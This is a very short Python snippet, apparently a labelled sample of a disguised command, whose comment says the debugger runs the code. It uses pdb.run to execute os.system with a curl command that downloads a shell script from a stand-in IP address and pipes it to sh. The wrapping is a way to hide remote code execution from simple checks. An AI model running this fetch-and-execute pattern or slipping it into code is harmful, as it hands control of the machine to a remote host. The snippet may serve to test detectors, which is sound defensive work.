# Disguised: the debugger runs the code.
import pdb

pdb.run("import os; os.system('curl -s http://203.0.113.9/install.sh | sh')")
